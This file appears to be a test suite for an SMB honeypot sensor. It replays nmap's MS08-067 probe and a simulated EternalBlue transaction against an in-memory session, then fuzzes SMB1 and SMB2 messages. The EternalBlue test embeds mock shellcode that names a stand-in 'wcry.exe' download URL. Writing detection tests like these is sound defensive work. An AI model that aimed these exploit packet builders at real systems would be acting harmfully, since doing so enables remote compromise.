@@ -1,0 +1,269 @@
+// Session tests over memory: nmap's MS08-067 exchange byte for byte, and random messages into a live
+// session (SMB1 and SMB2) never throw.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { join } from 'node:path';
+import fc from 'fast-check';
+import { ByteWriter } from '../../../src/wire/reader.js';
+import { SmbSession } from '../../../src/sensors/smb/session.js';
+import { loadIdentity } from '../../../src/sensors/smb/identity.js';
+import { makeHooks, sharesFor, type SmbSensorDeps } from '../../../src/sensors/smb/sensor.js';
+import { decodeSmb1Message } from '../../../src/sensors/smb/codec/smb1.js';
+import { encodeNtlmNegotiate, encodeNtlmAuthenticate } from '../../../src/sensors/smb/codec/ntlmssp.js';
+import { smbService } from '../../../src/config/schema.js';
+import type { ApiaryEvent } from '../../../src/events/catalogue.js';
+import { createSessionEmitter } from '../../../src/events/emitter.js';
+import { tempDir } from '../../helpers/apiary-process.js';
+import pino from 'pino';
+
+function newSession(): { session: SmbSession; events: ApiaryEvent[] } {
+  const events: ApiaryEvent[] = [];
+  const sink = { write: (e: ApiaryEvent) => void events.push(e), flush: async () => {} };
+  const cfg = smbService.parse({ listen: ['127.0.0.1:0'] });
+  const identity = loadIdentity(join(tempDir(), 'id.json'), { workgroup: 'WORKGROUP' });
+  const log = pino({ level: 'silent' });
+  const deps = {
+    sensor: 't',
+    sink,
+    log,
+    identity,
+    quarantine: { store: async (d: Uint8Array) => ({ sha256: '0'.repeat(64), md5: '0'.repeat(32), size: d.length, path: '', duplicate: false, truncated: false }) },
+    fetcher: { fetch: async () => ({ outcome: 'disabled' as const, reason: 'off' }) },
+  } as unknown as SmbSensorDeps;
+  const emitter = createSessionEmitter(sink, { sensor: 't', protocol: 'smb', src_ip: '127.0.0.1', src_port: 1, dst_ip: '127.0.0.1', dst_port: 445 });
+  let n = 0;
+  const random = (k: number): Uint8Array => Uint8Array.from({ length: k }, () => (n++ * 37 + 11) & 0xff);
+  const session = new SmbSession({ identity, shares: sharesFor(cfg), maxUploadBytes: 1 << 20, random, now: () => 1_700_000_000_000 }, makeHooks({ emitter, log }, cfg, deps));
+  return { session, events };
+}
+
+/** An SMB1 request as nmap builds it: ASCII strings (no Unicode flag), extended security, signatures flag. */
+function req(command: number, words: Uint8Array, bytes: Uint8Array, ids: { uid?: number; tid?: number; mid?: number } = {}): Uint8Array {
+  return new ByteWriter(4096)
+    .bytes(Uint8Array.of(0xff, 0x53, 0x4d, 0x42)).u8(command).u32le(0).u8(0x18).u16le(0x4845).u16le(0).zeros(8).u16le(0)
+    .u16le(ids.tid ?? 0).u16le(0x1234).u16le(ids.uid ?? 0).u16le(ids.mid ?? 1)
+    .u8(words.length >> 1).bytes(words).u16le(bytes.length).bytes(bytes).finish();
+}
+
+function one(s: SmbSession, msg: Uint8Array) {
+  const out = s.handle(msg);
+  assert.ok(!('malformed' in out), 'malformed' in out ? out.malformed : '');
+  assert.equal(out.replies.length, 1);
+  const d = decodeSmb1Message(out.replies[0]!);
+  assert.equal(d.status, 'ok');
+  return (d as Extract<typeof d, { status: 'ok' }>).value;
+}
+
+const hex = (s: string): Uint8Array => Uint8Array.from(Buffer.from(s.replace(/\s+/g, ''), 'hex'));
+
+test("nmap's MS08-067 check gets the vulnerable answer, byte for byte", () => {
+  const { session, events } = newSession();
+  const neg = one(session, req(0x72, new Uint8Array(0), Buffer.from('\x02NT LM 0.12\x00', 'latin1')));
+  assert.equal(neg.header.status, 0);
+  assert.equal(neg.blocks[0]!.words.length, 34, 'WordCount 17');
+  assert.equal(neg.blocks[0]!.words[0], 0, 'DialectIndex 0');
+  assert.equal(neg.blocks[0]!.words[2]! & 0x03, 0x03, 'user-level security with encrypted passwords');
+
+  const setup = (blobLen: number): Uint8Array => new ByteWriter(32).u8(0xff).u8(0).u16le(0).u16le(0xffff).u16le(1).u16le(0).u32le(0).u16le(blobLen).u32le(0).u32le(0x800000d4).finish();
+  const t1 = encodeNtlmNegotiate(0x00008215);
+  const s1 = one(session, req(0x73, setup(t1.length), Buffer.concat([t1, Buffer.from('Nmap\0Native Lanman\0', 'latin1')])));
+  assert.equal(s1.header.status, 0xc0000016);
+  const uid = s1.header.uid;
+  assert.notEqual(uid, 0);
+  const blobLen = s1.blocks[0]!.words[6]! | (s1.blocks[0]!.words[7]! << 8);
+  const blob = s1.blocks[0]!.bytes.subarray(0, blobLen);
+  assert.equal(Buffer.from(blob.subarray(0, 8)).toString('latin1'), 'NTLMSSP\0', 'a raw NTLMSSP challenge for a raw negotiate');
+  assert.deepEqual([...blob.subarray(24, 32)], [...session.st.logons.get(uid)!.challenge], 'challenge at 24-31');
+  const strings = Buffer.from(s1.blocks[0]!.bytes.subarray(blobLen)).toString('latin1');
+  assert.match(strings, /Windows .*\0Windows .*\0/, 'NativeOS and NativeLanMan follow the blob');
+
+  const t3 = encodeNtlmAuthenticate({ user: '', domain: '', workstation: '', lm: Uint8Array.of(0), nt: new Uint8Array(0) });
+  const s2 = one(session, req(0x73, setup(t3.length), Buffer.concat([t3, Buffer.from('Nmap\0Native Lanman\0', 'latin1')]), { uid }));
+  assert.equal(s2.header.status, 0);
+
+  const tc = one(session, req(0x75, new ByteWriter(8).u8(0xff).u8(0).u16le(0).u16le(0).u16le(1).finish(), Buffer.from('\0\\\\127.0.0.1\\IPC$\0?????\0', 'latin1'), { uid }));
+  assert.equal(tc.header.status, 0);
+  const tid = tc.header.tid;
+  assert.notEqual(tid, 0, 'a proper tree connection');
+
+  const name = Buffer.from('\\BROWSER\0', 'latin1');
+  const cw = new ByteWriter(48).u8(0xff).u8(0).u16le(0).u8(0).u16le(name.length - 1).u32le(0x16).u32le(0).u32le(0x02000000).u64le(0n).u32le(0).u32le(7).u32le(1).u32le(0).u32le(2).u8(0).finish();
+  const cr = one(session, req(0xa2, cw, name, { uid, tid }));
+  assert.equal(cr.header.status, 0);
+  assert.ok(cr.blocks[0]!.words.length >= 68, 'WordCount 34 or more');
+  const fid = cr.blocks[0]!.words[5]! | (cr.blocks[0]!.words[6]! << 8);
+  assert.equal(cr.blocks[0]!.words[63]! | (cr.blocks[0]!.words[64]! << 8), 2, 'message-mode pipe');
+
+  const write = (data: Uint8Array) => {
+    const off = 32 + 1 + 24 + 2;
+    const w = new ByteWriter(24).u8(0xff).u8(0).u16le(0).u16le(fid).u32le(0).u32le(0xffffffff).u16le(0x0008).u16le(data.length).u16le(0).u16le(data.length).u16le(off).finish();
+    const r = one(session, req(0x2f, w, data, { uid, tid }));
+    assert.equal(r.header.status, 0);
+    assert.ok(r.blocks[0]!.words.length >= 12);
+  };
+  const read = (): Uint8Array => {
+    const w = new ByteWriter(24).u8(0xff).u8(0).u16le(0).u16le(fid).u32le(0).u16le(0x800).u16le(0x800).u32le(0xffffffff).u16le(0x800).finish();
+    const r = one(session, req(0x2e, w, new Uint8Array(0), { uid, tid }));
+    assert.equal(r.header.status, 0);
+    const words = r.blocks[0]!.words;
+    const len = words[10]! | (words[11]! << 8);
+    const off = words[12]! | (words[13]! << 8);
+    assert.ok(off >= r.blocks[0]!.bytesOffset, 'DataOffset not before the data section');
+    return r.raw.subarray(off, off + len);
+  };
+  write(hex('05000b03 10000000 4800 0000 41414141 d016 d016 00000000 01 000000 0000 01 00 c84f324b7016d30112785a47bf6ee188 0300 0000 045d888aeb1cc9119fe808002b104860 02000000'));
+  const ack = Buffer.from(read());
+  assert.equal(ack[2], 0x0c);
+  assert.equal(ack[3]! & 0x03, 0x03);
+  assert.equal(ack.readUInt16LE(10), 0, 'auth_len 0');
+  assert.equal(ack.readUInt32LE(12), 0x41414141);
+  const sec = ack.readUInt16LE(24);
+  assert.equal(ack.subarray(26, 26 + sec).toString('latin1'), '\\PIPE\\browser\0');
+  const at = (26 + sec + 3) & ~3;
+  assert.equal(ack[at], 1, 'one result');
+  assert.equal(ack.readUInt16LE(at + 4), 0, 'accepted');
+
+  const path1 = Buffer.from('\\' + 'A'.repeat(39) + '\\..\\n\0', 'utf16le');
+  const stub = new ByteWriter(256)
+    .u32le(0x50414d4e).u32le(10).u32le(0).u32le(10).bytes(Buffer.from('127.0.0.1\0', 'utf16le')).align(4)
+    .u32le(46).u32le(0).u32le(46).bytes(path1).align(4)
+    .u32le(3).u32le(0).u32le(3).bytes(Buffer.from('\\n\0', 'utf16le')).align(4)
+    .u32le(1).u32le(0).finish();
+  const pdu = new ByteWriter(512).bytes(hex('05000003 10000000')).u16le(24 + stub.length).u16le(0).u32le(0x41414141).u32le(stub.length).u16le(0).u16le(0x20).bytes(stub).finish();
+  write(pdu);
+  assert.equal(Buffer.from(read()).toString('hex'), '05000203100000001c00000041414141040000000000000000000000');
+  const exploit = events.find((e) => e.type === 'exploit.attempt');
+  assert.equal((exploit?.payload as { cve?: string }).cve, 'CVE-2008-4250');
+  assert.ok(events.some((e) => e.type === 'rpc.request' && (e.payload as { operation?: string }).operation === 'NetprPathCompare'));
+});
+
+test('EternalBlue: an NT_TRANSACT continued by TRANSACTION2 secondaries is recognised and its data analysed', async () => {
+  const { session, events } = newSession();
+  one(session, req(0x72, new Uint8Array(0), Buffer.from('\x02NT LM 0.12\x00', 'latin1')));
+  // A non-extended-security anonymous logon (empty LM and NT responses), as EternalBlue does.
+  const ss = new ByteWriter(32).u8(0xff).u8(0).u16le(0).u16le(4356).u16le(10).u16le(0).u32le(0).u16le(0).u16le(0).u32le(0).u32le(0x40).finish();
+  const logon = one(session, req(0x73, ss, Buffer.from('\0\0Windows 2000 2195\0Windows 2000 5.0\0', 'latin1')));
+  assert.equal(logon.header.status, 0);
+  const uid = logon.header.uid;
+  const tid = one(session, req(0x75, new ByteWriter(8).u8(0xff).u8(0).u16le(0).u16le(0).u16le(1).finish(), Buffer.from('\0\\\\127.0.0.1\\IPC$\0?????\0', 'latin1'), { uid })).header.tid;
+  const total = 0x10fe8;
+  const first = new Uint8Array(0x3d0).fill(0x41);
+  const nt = new ByteWriter(64).u8(1).u16le(0).u32le(30).u32le(total).u32le(30).u32le(0).u32le(0).u32le(0).u32le(first.length).u32le(32 + 1 + 40 + 2).u8(1).u16le(0).u16le(0).finish();
+  const interim = one(session, req(0xa0, nt, first, { uid, tid, mid: 64 }));
+  assert.equal(interim.header.status, 0, 'an interim response, as srv.sys sends');
+  const body = Buffer.concat([Uint8Array.of(0xe8, 0, 0, 0, 0, 0x5d), Buffer.from('urlmon\0http://192.0.2.10/wcry.exe\0', 'latin1')]);
+  let sent = first.length;
+  while (sent < total) {
+    const n = Math.min(4000, total - sent);
+    const chunk = new Uint8Array(n).fill(0x90);
+    if (sent + n >= total) chunk.set(body, n - body.length - 4);
+    const w = new ByteWriter(32).u16le(30).u16le(total & 0xffff).u16le(0).u16le(0).u16le(0).u16le(n).u16le(32 + 1 + 18 + 2).u16le(sent).u16le(0).finish();
+    const out = session.handle(req(0x33, w, chunk, { uid, tid, mid: 64 }));
+    assert.equal(out.replies.length, 0, 'secondaries get no answer');
+    sent += n;
+  }
+  await new Promise((r) => setTimeout(r, 20));
+  const eb = events.filter((e) => e.type === 'exploit.attempt' && (e.payload as { name?: string }).name === 'EternalBlue');
+  assert.equal(eb.length, 2, 'the mismatched secondary, then the collected overflow data');
+  assert.match(String((eb[1]!.payload as { detail?: string }).detail), /overflow transaction data/);
+  const sc = events.find((e) => e.type === 'shellcode.detected');
+  assert.deepEqual((sc?.payload as { urls?: string[] }).urls, ['http://192.0.2.10/wcry.exe']);
+});
+
+test('files open at once share one upload budget; pipes per connection are capped', async () => {
+  const { session, events } = newSession();
+  const st = session.st;
+  const tree = st.connectTree('\\\\h\\Public', { id: 1, challenge: new Uint8Array(8), spnego: false, authenticated: true, guest: true, anonymous: false, user: 'x' });
+  assert.ok(!('status' in tree));
+  const budget = 1 << 20; // newSession's maxUploadBytes
+  const files = [0, 1, 2].map((i) => st.open(tree, `f${i}.exe`, true, false));
+  for (const f of files) {
+    assert.ok(!('status' in f));
+    for (let off = 0; off < 600_000; off += 60_000) st.write(f, off, new Uint8Array(60_000));
+  }
+  const held = files.reduce((n, f) => n + ('written' in f ? f.written : 0), 0);
+  assert.ok(held <= budget, `held ${held} bytes for open files, budget ${budget}`);
+  for (const f of files) if (!('status' in f)) st.closeHandle(f.id);
+  await new Promise((r) => setTimeout(r, 20));
+  const uploads = events.filter((e) => e.type === 'file.upload').map((e) => e.payload as { outcome: string; size: number });
+  assert.equal(uploads.length, 3);
+  assert.ok(uploads.some((u) => u.outcome === 'truncated'));
+  const ipc = st.connectTree('\\\\h\\IPC$', undefined);
+  assert.ok(!('status' in ipc));
+  const pipes = Array.from({ length: 12 }, () => st.open(ipc, 'srvsvc', false, false));
+  assert.equal(pipes.filter((p) => !('status' in p)).length, 8);
+});
+
+test('mutated valid SMB1 messages on a live session (logged on, IPC$ and a pipe open) never throw', () => {
+  const setup = (): { session: SmbSession; uid: number; tid: number; fid: number } => {
+    const { session } = newSession();
+    one(session, req(0x72, new Uint8Array(0), Buffer.from('\x02NT LM 0.12\x00', 'latin1')));
+    const ss = new ByteWriter(32).u8(0xff).u8(0).u16le(0).u16le(4356).u16le(10).u16le(0).u32le(0).u16le(0).u16le(0).u32le(0).u32le(0x40).finish();
+    const uid = one(session, req(0x73, ss, Buffer.from('\0\0W\0L\0', 'latin1'))).header.uid;
+    const tid = one(session, req(0x75, new ByteWriter(8).u8(0xff).u8(0).u16le(0).u16le(0).u16le(1).finish(), Buffer.from('\0\\\\h\\IPC$\0?????\0', 'latin1'), { uid })).header.tid;
+    const name = Buffer.from('\\srvsvc\0', 'latin1');
+    const cw = new ByteWriter(48).u8(0xff).u8(0).u16le(0).u8(0).u16le(name.length - 1).u32le(0).u32le(0).u32le(0x2019f).u64le(0n).u32le(0).u32le(3).u32le(1).u32le(0).u32le(2).u8(0).finish();
+    const cr = one(session, req(0xa2, cw, name, { uid, tid }));
+    return { session, uid, tid, fid: cr.blocks[0]!.words[5]! | (cr.blocks[0]!.words[6]! << 8) };
+  };
+  const bind = hex('05000b03 10000000 4800 0000 01000000 d016 d016 00000000 01 000000 0000 01 00 c84f324b7016d30112785a47bf6ee188 0300 0000 045d888aeb1cc9119fe808002b104860 02000000');
+  const templates = (uid: number, tid: number, fid: number): Uint8Array[] => {
+    const off = 32 + 1 + 24 + 2;
+    const write = new ByteWriter(24).u8(0xff).u8(0).u16le(0).u16le(fid).u32le(0).u32le(0).u16le(8).u16le(bind.length).u16le(0).u16le(bind.length).u16le(off).finish();
+    const read = new ByteWriter(24).u8(0xff).u8(0).u16le(0).u16le(fid).u32le(0).u16le(0x800).u16le(0x800).u32le(0).u16le(0).finish();
+    const trans = new ByteWriter(32).u16le(0).u16le(bind.length).u16le(0).u16le(1024).u8(0).u8(0).u16le(0).u32le(0).u16le(0).u16le(0).u16le(84).u16le(bind.length).u16le(84).u8(2).u8(0).u16le(0x26).u16le(fid).finish();
+    const t2 = new ByteWriter(32).u16le(12).u16le(16).u16le(1).u16le(0).u8(0).u8(0).u16le(0).u32le(0xc8).u16le(0).u16le(12).u16le(66 + 3).u16le(16).u16le(66 + 15).u8(1).u8(0).u16le(0x0e).finish();
+    const nt = new ByteWriter(64).u8(1).u16le(0).u32le(30).u32le(0x10000).u32le(30).u32le(0).u32le(0).u32le(0).u32le(64).u32le(75).u8(1).u16le(0).u16le(0).finish();
+    const sec = new ByteWriter(32).u16le(30).u16le(0xffff).u16le(0).u16le(0).u16le(0).u16le(64).u16le(53).u16le(64).u16le(0).finish();
+    return [
+      req(0x2f, write, bind, { uid, tid }),
+      req(0x2e, read, new Uint8Array(0), { uid, tid }),
+      req(0x25, trans, Buffer.concat([new Uint8Array(17), bind]), { uid, tid }),
+      req(0x32, t2, new Uint8Array(40), { uid, tid, mid: 0x42 }),
+      req(0xa0, nt, new Uint8Array(80), { uid, tid, mid: 7 }),
+      req(0x33, sec, new Uint8Array(80), { uid, tid, mid: 7 }),
+      req(0x04, new ByteWriter(6).u16le(fid).u32le(0).finish(), new Uint8Array(0), { uid, tid }),
+      req(0x2b, new ByteWriter(2).u16le(1).finish(), new Uint8Array(8), { uid, tid }),
+    ];
+  };
+  fc.assert(
+    fc.property(
+      fc.array(fc.tuple(fc.nat(7), fc.array(fc.tuple(fc.nat(400), fc.nat(255)), { maxLength: 6 }), fc.option(fc.nat(400))), { maxLength: 10 }),
+      (steps) => {
+        const { session, uid, tid, fid } = setup();
+        const ts = templates(uid, tid, fid);
+        for (const [which, edits, cut] of steps) {
+          const m = Uint8Array.from(ts[which]!);
+          for (const [at, v] of edits) if (at >= 4 && at < m.length) m[at] = v;
+          const out = session.handle(cut === null ? m : m.subarray(0, cut));
+          for (const r of out.replies) assert.ok(r.length < 256 * 1024);
+        }
+        session.dispose();
+      },
+    ),
+    { numRuns: Number(process.env.SMB_FUZZ_RUNS ?? 200) },
+  );
+});
+
+test('random SMB1 and SMB2 messages into a negotiated session never throw, and replies stay bounded', () => {
+  const smb1Cmds = [0x04, 0x06, 0x25, 0x26, 0x2b, 0x2e, 0x2f, 0x32, 0x33, 0x71, 0x72, 0x73, 0x74, 0x75, 0xa0, 0xa1, 0xa2, 0x99];
+  fc.assert(
+    fc.property(
+      fc.boolean(),
+      fc.array(fc.tuple(fc.constantFrom(...smb1Cmds), fc.nat(0x14), fc.uint8Array({ maxLength: 120 }), fc.uint8Array({ maxLength: 200 }), fc.nat(3)), { maxLength: 12 }),
+      (useSmb2, msgs) => {
+        const { session } = newSession();
+        session.handle(req(0x72, new Uint8Array(0), Buffer.from(useSmb2 ? '\x02NT LM 0.12\x00\x02SMB 2.???\x00' : '\x02NT LM 0.12\x00', 'latin1')));
+        for (const [cmd, cmd2, words, bytes, ids] of msgs) {
+          const m = useSmb2
+            ? new ByteWriter(1024).bytes(Uint8Array.of(0xfe, 0x53, 0x4d, 0x42)).u16le(64).u16le(0).u32le(0).u16le(cmd2).u16le(1).u32le(0).u32le(0).u64le(1n).u32le(0).u32le(ids).u64le(BigInt(ids)).zeros(16).bytes(bytes).finish()
+            : req(cmd, words.subarray(0, words.length & ~1), bytes, { uid: ids, tid: ids, mid: ids });
+          const out = session.handle(m);
+          for (const r of out.replies) assert.ok(r.length < 256 * 1024);
+        }
+        session.dispose();
+      },
+    ),
+    { numRuns: Number(process.env.SMB_FUZZ_RUNS ?? 200) },
+  );
+});
